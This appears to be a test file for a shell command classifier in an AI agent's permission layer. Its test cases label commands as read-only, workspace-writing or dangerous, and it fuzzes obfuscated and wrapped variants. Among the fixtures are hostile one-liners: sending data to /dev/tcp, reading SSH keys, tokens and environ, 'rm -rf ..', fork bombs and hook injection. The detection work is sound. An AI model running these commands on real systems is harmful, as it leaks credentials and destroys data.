import { readFileSync } from "node:fs"
import { areas } from "@driver/permission/analyzer/programs/table"
import {
  type Analysis,
  analyze,
  CommandAnalyzer,
  type CommandClass,
  inspect,
  ProgramEntry
} from "@driver/permission/CommandAnalyzer"
import { assert, describe, it } from "@effect/vitest"
import { Effect, FastCheck as fc, Schema } from "effect"
import { growing, long } from "./support/hostileCommands.js"

const where = { cwd: "/home/dev/work/repo", home: "/home/dev" }
const look = (command: string): Analysis => analyze(command, where)
const labelOf = (command: string): CommandClass => look(command).label

const rank: Readonly<Record<CommandClass, number>> = { read_only: 0, workspace_write: 1, dangerous: 2 }

const cases: Readonly<Record<string, Readonly<Record<CommandClass, ReadonlyArray<string>>>>> = {
  "quoting and expansion": {
    read_only: [
      "echo 'rm -rf /'",
      'f=src/a.ts; cat "$f"',
      "ls src/{a,b}",
      'echo "${f%.ts} $((1 + 2))"',
      'for f in src/*.ts; do wc -l "$f"; done'
    ],
    workspace_write: ['d=dist; rm -rf "$d"', "touch {a,b}.txt", "cmd='npm test'; $cmd"],
    dangerous: [
      "r''m -rf ..",
      "{rm,-rf,..}",
      "$'\\x72m' -rf ..",
      'd=..; rm -rf "$d"',
      "$(echo rm) -rf x",
      "rm${IFS}-rf${IFS}..",
      'x=(rm -rf ..); "${x[@]}"'
    ]
  },
  "control flow": {
    read_only: [
      "if [ -f x ]; then cat x; fi",
      'while read -r l; do echo "$l"; done < file',
      "cd .. && ls",
      "case $(uname) in Linux) nproc ;; esac"
    ],
    workspace_write: [
      "cd docs && echo hi > a.md",
      "for i in 1 2 3; do npm test && break; sleep 1; done",
      'run() { npm test -- "$@"; }; run src'
    ],
    dangerous: [
      "cd ..; touch x",
      "cd src || touch ../x",
      "f() { rm -rf ..; }; f",
      "false && rm -rf ..",
      "trap 'rm -rf ..' EXIT",
      "f() { f | f & }; f",
      "while :; do x & done",
      'for d in a ..; do touch "$d/x"; done'
    ]
  },
  "redirections and here-documents": {
    read_only: ["ls 2>&1 > /dev/null", "grep -c x <<< 'text'", "cat <<'EOF'\nrm -rf /\nEOF"],
    workspace_write: ["cat > a.md <<'EOF'\n$(rm -rf /)\nEOF", "npm test 2>&1 | tee test.log | tail"],
    dangerous: [
      "> /etc/hosts",
      "ls 7>../x",
      "cat > a <<EOF\n$(touch ../x)\nEOF",
      "cat a > /dev/tcp/1.2.3.4/80",
      "echo x > .git/hooks/pre-commit",
      "cat <<EOF\nno end"
    ]
  },
  "wrappers and interpreters": {
    read_only: [
      "timeout 5 ls",
      "env FOO=1 cat a",
      "find . -print0 | xargs -0 wc -l",
      "find . -name '*.ts' | xargs grep -l foo",
      "sed -n '1,5p' a",
      "awk '{print $1}' a",
      "bash -c 'ls'"
    ],
    workspace_write: [
      "nice -n 5 npm test",
      "sed -i 's/a/b/' a",
      "perl -pi -e 's/a/b/' a",
      "sh ./build.sh",
      "find src -name '*.ts' -exec sed -i 's/a/b/' {} +"
    ],
    dangerous: [
      "sudo ls",
      "timeout 5 rm -rf ..",
      "xargs rm < list",
      "sed 's/a/b/e' a",
      "sed -n 'w ../x' a",
      "awk 'BEGIN{system(\"x\")}'",
      "awk '{print > \"../x\"}' a",
      'bash -c "$x"',
      "ls | sh",
      "python3 -c 'import os'",
      "node -e '(eval)(\"1\")'",
      "find . -delete",
      "eval ls",
      "zsh -c ls",
      "bash -oc pipefail ls"
    ]
  },
  git: {
    read_only: [
      "git status && git diff HEAD~2 -- src | head",
      "git log --grep='reset --hard'",
      "git -C packages/a log -1",
      "git stash list"
    ],
    workspace_write: ["git add -A && git commit -m x", "git checkout -b feat/x", "git restore --staged a"],
    dangerous: [
      "git push",
      "git reset --hard",
      "git reset --har",
      "git -c core.pager=x log",
      "git show HEAD:.env",
      "git clean -fd",
      "git commit --no-verify -m x",
      "git checkout .",
      "git config core.hooksPath x",
      "git reflog expire --all",
      "git diff --no-index a .env"
    ]
  },
  "secrets and the environment": {
    read_only: ["cat .env.example", "test -f .env", 'echo "$HOME"', '[ -n "$GITHUB_TOKEN" ]', "GIT_PAGER=cat git log"],
    workspace_write: ["NODE_ENV=test npm test", "cp .env.example .env"],
    dangerous: [
      "cat .env",
      "cat .e*",
      "cat .[e]nv",
      "echo $GITHUB_TOKEN",
      "env",
      "set",
      "export -p",
      "cat ~/.ssh/id_rsa",
      "grep -r x ~",
      "cat /proc/self/environ",
      "PATH=. ls",
      "LD_PRELOAD=./x.so ls",
      "git add .env",
      "ls -A | xargs cat",
      "jq -n '$ENV'"
    ]
  },
  "text that is written and run, files that are emptied": {
    read_only: ["seq 1 100 | head", "while read -r l; do echo $l & wait; done < f"],
    workspace_write: [
      "chmod +x run.sh && ./run.sh",
      "gcc -o prog a.c && ./prog",
      "sed -i 's/a/b/' src/a.ts && npm test",
      'for f in src/*.ts; do cp "$f" "backup/$f"; done',
      'for f in src/*.js; do mv "$f" "${f%.js}.ts"; done',
      "csplit -f parts/p- notes.md /x/",
      "cp --parents src/a.ts build/",
      "awk -i inplace '{ sub(/a/, \"b\") } 1' a.txt"
    ],
    dangerous: [
      "cp a x.sh; sh x.sh",
      "sed -i s/a/b/ x.sh; sh x.sh",
      "{ echo ls; cat y; } > x.sh; sh x.sh",
      "exec 3> x.sh; echo ls >&3; sh x.sh",
      "tee x.sh < y; sh x.sh",
      "echo ls > x.sh; cp y x.sh; sh x.sh",
      'for f in scripts/*.sh; do bash "$f"; done',
      "truncate -s 0 src/*.ts",
      'for f in src/*.ts; do : > "$f"; done',
      'for f in src/*.ts; do cp empty.ts "$f"; done',
      "sed -i d src/*.ts",
      "cd ..; csplit repo/README.md 5",
      "cp --parents ../../notes.txt dist",
      "awk -i evil 1 a.txt",
      "dd if=/dev/zero of=f bs=1G count=500",
      "seq 100000 | xargs -P0 -n1 sleep",
      "while read -r l; do sleep 9 & done < f",
      "f=dist; . ./x.sh; rm -rf $f"
    ]
  },
  "inline code": {
    read_only: [],
    workspace_write: [
      "python3 -c 'import sys, json; print(json.load(sys.stdin)[\"a\"])'",
      "python3 -m pytest -k 'not slow' -x -q",
      'python3 -c \'open("out.txt", "w").write("x")\'',
      'node -e \'require("fs").writeFileSync("out.json", "{}")\'',
      "node -e 'console.log(require(\"./dist\").version)'",
      "npm pkg set type=module"
    ],
    dangerous: [
      'python3 -c \'open("../out.txt", "w")\'',
      "python3 -c 'from pathlib import Path; f = Path.unlink; f(Path(\"a\"))'",
      'python3 -c \'import json; json.codecs.open("x", "w")\'',
      'python3 -c \'p = "a"; p += x; open(p, "w")\'',
      "python3 -c 'from sh import rm; rm(\"x\")'",
      "node -e '[\"1\"].map(eval)'",
      'node -e \'const {rmSync} = require("fs"); rmSync("src")\'',
      'node -e \'const fs = require("fs"); Object.values(fs)[0]("x")\'',
      'node -e \'require("shelljs").rm("src")\'',
      'node -e \'require("fs").writeFileSync(".git/config", "")\'',
      "npm pkg set scripts.test=x"
    ]
  },
  "settings and secrets of programs": {
    read_only: ["cat ~/.bashrc", "ls ~/.config", "cat ~/.cargo/registry/src/*/serde-1.*/src/lib.rs"],
    workspace_write: [
      "echo x > CLAUDE.md",
      "echo x > .github/workflows/ci.yml",
      "echo x > .vscode/extensions.json",
      "echo x > .cursor/rules/a.md",
      "FEATURE_X=1 npm test",
      "API_URL=http://localhost:3000 npm test",
      "npm start & pid=$!; trap 'kill $pid' EXIT; npm run smoke"
    ],
    dangerous: [
      "echo x > .vscode/tasks.json",
      "echo x > .vscode/settings.json",
      "echo x > .devcontainer/devcontainer.json",
      "echo x > .cursor/mcp.json",
      "echo x > .gitmodules",
      "echo x > .codex/config.toml",
      "cat ~/.config/any/thing.toml",
      "cat config/secrets/production.yaml",
      "cat client_secret.json",
      "SOME_COMMAND=x npm test",
      "ANY=--require=x npm test",
      "ANY=https://evil.example npm test",
      "bin/rails db:drop",
      "make db-reset",
      "./scripts/deploy.sh prod"
    ]
  },
  "tools of projects": {
    read_only: ["npm ls", "cargo tree", "node --version"],
    workspace_write: [
      "npm ci",
      "npx tsc -p tsconfig.json",
      "pytest -q",
      "cargo test",
      "go test ./... -run X -v",
      "make -j4 test",
      "rm -rf node_modules dist"
    ],
    dangerous: [
      "npm publish",
      "npx evil",
      "npx ls",
      "pip install x",
      "make SHELL=/tmp/x",
      "go test -exec x ./...",
      "tsc -p ../x",
      "jest -c /tmp/x.js",
      "npm run build --script-shell=x",
      "rm -rf src",
      "docker ps",
      "curl https://x.example",
      "kill -9 1234",
      "echo 'x: ; rm -rf ..' > Makefile; make x"
    ]
  }
}

describe.each(Object.entries(cases))("CommandAnalyzer: %s", (_, byLabel) => {
  for (const [label, commands] of Object.entries(byLabel)) {
    it.each(commands)(`${label}: %s`, (command) => {
      assert.strictEqual(labelOf(command), label)
    })
  }
})

describe("CommandAnalyzer", () => {
  it("says which paths are read, written and deleted, through cd", () => {
    const { paths } = look("cd packages/a && cat x.ts > out.txt && rm old.ts && ls ~")
    assert.deepStrictEqual(paths.map(({ access, path }) => `${access} ${path}`).sort(), [
      "delete /home/dev/work/repo/packages/a/old.ts",
      "read /home/dev",
      "read /home/dev/work/repo/packages/a/x.ts",
      "write /home/dev/work/repo/packages/a/out.txt"
    ])
  })

  it("names programs that wrappers start, with their words", () => {
    assert.deepStrictEqual(look("timeout 5 env A=1 wc -l a.ts").programs, [
      { name: "timeout", args: ["5", "env", "A=1", "wc", "-l", "a.ts"] },
      { name: "env", args: ["A=1", "wc", "-l", "a.ts"] },
      { name: "wc", args: ["-l", "a.ts"] }
    ])
  })

  it("gives the reason that made the label first", () => {
    const [first] = look("npm test && rm -rf ..").reasons
    assert.deepStrictEqual([first?.label, first?.kind], ["dangerous", "outside"])
  })

  it("names the hosts and the secrets that it found", () => {
    assert.deepStrictEqual(look("cat .env").secrets, ["/home/dev/work/repo/.env"])
    assert.isTrue(look("curl https://x.example/a").network)
    assert.deepStrictEqual(look("curl https://x.example/a").hosts, ["x.example"])
    assert.isTrue(look("sudo ls").privilege)
  })

  it("keeps the start of text that cannot be read", () => {
    assert.deepStrictEqual(look("ls )").unparsable, ["ls )"])
  })

  it.effect("takes entries of the user", () =>
    Effect.gen(function* () {
      const { analyze } = yield* CommandAnalyzer
      assert.strictEqual(analyze("ourtool -v a.ts", where).label, "read_only")
      assert.strictEqual(analyze("ourtool --write a.ts", where).label, "dangerous")
      assert.strictEqual(analyze("ourtool -v .env", where).label, "dangerous")
      assert.strictEqual(analyze("git status", where).label, "dangerous")
    }).pipe(
      Effect.provide(
        CommandAnalyzer.layer({
          programs: {
            ourtool: { flags: "-v", operands: "read*" },
            git: { effect: "system", style: "none", operands: "text*" }
          }
        })
      )
    )
  )

  it("decodes entries as a configuration would have them", () => {
    const decode = Schema.decodeUnknownSync(ProgramEntry, { onExcessProperty: "error" })
    const entry: ProgramEntry = {
      flags: "-v",
      values: { write: "-o" },
      subcommands: { run: { operands: "text read*", effect: "project_code" } }
    }
    assert.deepStrictEqual(decode(entry), entry)
    assert.throws(() => decode({ flag: "-v" }))
    assert.throws(() => decode({ effect: "harmless" }))
  })
})

describe("the table of programs", () => {
  it("has each name, and each subcommand and option of an entry, only once", () => {
    const names = areas.flatMap((table) => Object.keys(table)).flatMap((it) => it.split(" "))
    assert.deepStrictEqual(repeated(names), [])
    const visit = (path: string, entry: ProgramEntry): ReadonlyArray<string> => {
      const subcommands = Object.entries(entry.subcommands ?? {})
      return [
        ...repeated(subcommands.flatMap(([it]) => it.split(" "))).map((it) => `${path} ${it}`),
        ...repeated(Object.values(entry.values ?? {}).flatMap((it) => (it ?? "").split(" "))).map(
          (it) => `${path} ${it}`
        ),
        ...subcommands.flatMap(([it, sub]) => visit(`${path} ${it}`, sub))
      ]
    }
    assert.deepStrictEqual(
      areas.flatMap((table) => Object.entries(table)).flatMap(([name, entry]) => visit(name, entry)),
      []
    )
  })
})

const repeated = (names: ReadonlyArray<string>): ReadonlyArray<string> =>
  names.filter((it, index) => it !== "" && names.indexOf(it) !== index)

const corpus: ReadonlyArray<{ readonly command: string; readonly label: CommandClass }> = ["dev", "holdout"].flatMap(
  (name) =>
    readFileSync(new URL(`./corpus/${name}.jsonl`, import.meta.url), "utf8")
      .split("\n")
      .filter((line) => line !== "")
      .map((line) => JSON.parse(line))
)

const any = fc.constantFrom(...corpus.map(({ command }) => command))
/** What is dangerous on one line and by itself: it can stand within others. */
const dangerous = fc.constantFrom(
  ...corpus
    .map(({ command }) => command)
    .filter(
      (it) =>
        // Arguments are none in a shell that is given none.
        !/\$\{?[\d@*]/.test(it) &&
        !/[\n#]|\\$|^\s*[&|;]|[&|;]\s*$/.test(it) &&
        labelOf(it) === "dangerous" &&
        look(it).unparsable.length === 0
    )
)

const single = (text: string) => `'${text.replaceAll("'", "'\\''")}'`

const wrappings: ReadonlyArray<(command: string) => string> = [
  (it) => `( ${it} )`,
  (it) => `{ ${it}; }`,
  (it) => `! { ${it}; }`,
  // Two brackets together would be arithmetic.
  (it) => `$( ${it})`,
  (it) => `echo "$( ${it})"`,
  (it) => `cat <(${it})`,
  (it) => `x=$( ${it})`,
  (it) => `f() { ${it}; }; f`,
  (it) => `if true; then ${it}; fi`,
  (it) => `if ${it}; then :; fi`,
  (it) => `for i in 1 2; do ${it}; done`,
  (it) => `while ${it}; do break; done`,
  (it) => `case x in *) ${it} ;; esac`,
  (it) => `true && { ${it}; }`,
  (it) => `false || { ${it}; }`,
  (it) => `{ ${it}; } 2>&1 | cat`,
  (it) => `{ ${it}; } &`,
  (it) => `bash -c ${single(it)}`,
  (it) => `sh -ec ${single(it)}`,
  (it) => `env A=1 bash -c ${single(it)}`,
  (it) => `timeout 5 bash -c ${single(it)}`,
  (it) => `nice nohup bash -c ${single(it)}`,
  (it) => `command bash -c ${single(it)}`,
  (it) => `find . -maxdepth 0 -exec bash -c ${single(it)} \\;`,
  (it) => `echo a | xargs bash -c ${single(it)}`,
  (it) => `eval ${single(it)}`,
  (it) => `trap ${single(it)} EXIT`,
  (it) => `bash <<'END_OF_TEXT'\n${it}\nEND_OF_TEXT`,
  (it) => `coproc { ${it}; }`
]

/** Other ways to write one word. */
const spellings: ReadonlyArray<(word: string) => string> = [
  single,
  (it) => `"${it}"`,
  (it) => `\\${it}`,
  (it) => `${it.slice(0, 1)}''${it.slice(1)}`,
  (it) => `$'${[...it].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, "0")}`).join("")}'`,
  (it) => `{${it},}`,
  (it) => `$(printf %s ${it})`,
  (it) => `${it.slice(0, 1)}\\\n${it.slice(1)}`
]

/** Milliseconds: thousands of commands on a busy machine. */
const patient = 120_000

describe("CommandAnalyzer, for all commands", () => {
  it(
    "wrapping a dangerous command never makes it safer",
    () => {
      fc.assert(
        fc.property(
          dangerous,
          fc.constantFrom(...wrappings),
          fc.constantFrom(...wrappings),
          (command, inner, outer) => {
            assert.strictEqual(labelOf(inner(command)), "dangerous")
            assert.strictEqual(labelOf(outer(inner(command))), "dangerous")
          }
        ),
        { numRuns: 600 }
      )
    },
    patient
  )

  it(
    "spelling the words of a dangerous command otherwise never makes it safer",
    () => {
      const plain = fc.constantFrom(
        ...corpus
          .map(({ command }) => command)
          .filter((it) => /^[a-z]+( [\w./:=~-]+)+$/.test(it) && labelOf(it) === "dangerous")
      )
      fc.assert(
        fc.property(
          plain,
          fc.array(fc.constantFrom(...spellings), { minLength: 1, maxLength: 8 }),
          (command, spell) => {
            const words = command.split(" ").map((word, index) => (spell[index % spell.length] ?? single)(word))
            assert.strictEqual(labelOf(words.join(" ")), "dangerous")
          }
        ),
        { numRuns: 600 }
      )
    },
    patient
  )

  it(
    "an unknown option never makes it safer",
    () => {
      const plain = fc.constantFrom(
        ...corpus.map(({ command }) => command).filter((it) => /^[a-z]+( [\w./:=~-]+)*$/.test(it))
      )
      fc.assert(
        fc.property(
          plain,
          fc.constantFrom("--no-such-option", "-@", "--no-such=../x"),
          fc.boolean(),
          (command, option, first) => {
            const [program, ...words] = command.split(" ")
            const with_ = first ? [program, option, ...words] : [program, ...words, option]
            assert.isAtLeast(rank[labelOf(with_.join(" "))], rank[labelOf(command)])
          }
        ),
        { numRuns: 600 }
      )
    },
    patient
  )

  it(
    "two commands are never safer than one of them",
    () => {
      const whole = fc.constantFrom(
        ...corpus
          .map(({ command }) => command)
          .filter((it) => !/[\n#=]|\\$|\(\)|alias|[&|;]\s*$|<</.test(it) && look(it).unparsable.length === 0)
      )
      fc.assert(
        fc.property(whole, whole, fc.constantFrom("; ", " && ", " || ", " | ", "\n", " & "), (a, b, between) => {
          const both = rank[labelOf(`${a}${between}${b}`)]
          assert.isAtLeast(both, rank[labelOf(a)])
          // A pipe gives the second something to read that it would otherwise ask for.
          if (between !== " | ") assert.isAtLeast(both, rank[labelOf(b)])
        }),
        { numRuns: 800 }
      )
    },
    patient
  )

  it(
    "answers for every text",
    () => {
      const mutated = fc
        .tuple(any, fc.nat(), fc.nat(8), fc.stringMatching(/^[ -~\n]{0,4}$/))
        .map(
          ([text, at, count, put]) =>
            text.slice(0, at % (text.length + 1)) + put + text.slice((at % (text.length + 1)) + count)
        )
      fc.assert(
        fc.property(
          fc.oneof(mutated, fc.string({ maxLength: 200 }), fc.string({ unit: "binary", maxLength: 100 })),
          (text) => {
            const { label, reasons } = inspect(text, where)
            assert.include(["read_only", "workspace_write", "dangerous"], label)
            assert.strictEqual(reasons[0]?.label, label)
          }
        ),
        { numRuns: 1_500 }
      )
    },
    patient
  )

  it.each(Object.entries(growing))("refuses what grows without limit: %s", (_, command) => {
    const { label, reasons } = inspect(command, where)
    assert.strictEqual(label, "dangerous")
    assert.include(["resources", "unknown_code"], reasons[0]?.kind)
  })

  it.each(Object.entries(long))("answers for %s, and nothing in it goes wrong", (_, command) => {
    assert.include(["read_only", "workspace_write", "dangerous"], inspect(command, where).label)
  })

  it.each([
    ["a long text", "echo ".repeat(200_000)],
    ["deep substitutions", `${"$(".repeat(10_000)}ls${")".repeat(10_000)}`],
    ["deep quoted substitutions", `${'"$('.repeat(5_000)}ls${')"'.repeat(5_000)}`],
    ["deep subshells", `${"( ".repeat(6_000)}ls${" )".repeat(2_000)}`],
    ["deep blocks", `${"{ ".repeat(5_000)}ls`],
    [
      "many shells within shells",
      Array.from({ length: 40 }).reduce<string>((it) => `bash -c ${single(it)}`.slice(0, 16_000), "ls")
    ],
    ["an invisible character", "r\u200bm x"],
    ["a control character", "ls \u001b[2K"],
    ["half a character", "ls \ud800"]
  ])("refuses %s", (_, text) => {
    assert.strictEqual(labelOf(text), "dangerous")
  })
})
